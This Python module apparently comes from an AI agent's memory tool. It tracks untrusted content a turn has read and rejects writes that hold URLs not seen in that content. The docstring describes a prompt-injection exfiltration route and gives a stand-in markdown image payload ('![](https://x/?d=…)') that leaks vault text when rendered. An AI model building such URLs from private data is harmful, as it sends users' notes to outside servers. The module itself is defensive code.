"""What a turn has read that someone else wrote, and the one write it forbids after that: a made-up URL.

Every tool but ``remember`` returns text from the vault, the graph or earlier agents, so a call to one marks
the turn as having read untrusted content (``external_content``); a ``remember`` in such a turn is pending and
tainted whatever the mode (:mod:`engram_lab.agent.remember`). The URLs in what was read are kept: after
reading untrusted content, an agent's write may only copy a URL it read. A URL it built itself could carry
vault text to another server the moment a notebook renders the note (``![](https://x/?d=…)``).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from engram_lab.agent.wrap import unescape_content
from engram_lab.errors import EngramError

_SOURCE = re.compile(r'<external_content source="([^"]*)"')
# scheme://… and protocol-relative //host.tld/… (a browser fetches both); ends at space, quote or bracket.
URL = re.compile(r"(?i)(?:\b[a-z][a-z0-9+.-]*:)?//[^\s\"'<>()\[\]{}`]+")
_HOST = re.compile(r"(?i)^(?:[a-z][a-z0-9+.-]*:)?//[^/\s]*[a-z0-9]\.[a-z]{2,}")
MAX_SOURCES = 20


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, (list, tuple)):
        for item in value:
            yield from _strings(item)


def urls_in(text: str) -> set[str]:
    """URLs (with a host) in ``text``, trailing punctuation dropped."""
    found = {m.group(0).rstrip(".,;:!?") for m in URL.finditer(unescape_content(text))}
    return {u for u in found if _HOST.match(u)}


@dataclass
class TurnTaint:
    """The untrusted sources a turn has read, and the URLs they contained."""

    sources: list[str] = field(default_factory=list)
    seen_urls: set[str] = field(default_factory=set)

    @property
    def tainted(self) -> bool:
        return bool(self.sources)

    def describe(self) -> str | None:
        if not self.sources:
            return None
        more = len(self.sources) - MAX_SOURCES
        return ", ".join(self.sources[:MAX_SOURCES]) + (f" and {more} more" if more > 0 else "")

    def read(self, text: str, fallback: str) -> None:
        """Record one tool result (or prompt block) the model saw: its wrapped sources, else ``fallback``."""
        for source in _SOURCE.findall(text) or [fallback]:
            if source not in self.sources:
                self.sources.append(source)
        self.seen_urls |= urls_in(text)

    def read_result(self, tool: str, result: dict[str, Any]) -> None:
        """Each string in the result as the model reads it (not its JSON form, where a newline is ``\\n``)."""
        self.read("\n".join(_strings(result)), f"tool:{tool}")

    def check_urls(self, values: dict[str, object], *, quoted: str = "") -> None:
        """Refuse a write whose text holds a URL this turn did not read (``quoted``: text the write replaces)."""
        if not self.tainted:
            return
        allowed = self.seen_urls | urls_in(quoted)
        for name, value in values.items():
            texts = value if isinstance(value, list) else [value]
            for url in sorted(set().union(*(urls_in(t) for t in texts if isinstance(t, str)))):
                if url not in allowed:
                    raise EngramError(f"{name} holds a URL that nothing read in this turn contained ({url[:80]}); after "
                                      "reading untrusted content an agent may only copy URLs it read, since a URL built "
                                      "from note text could carry it out of the vault. A person can add it instead")
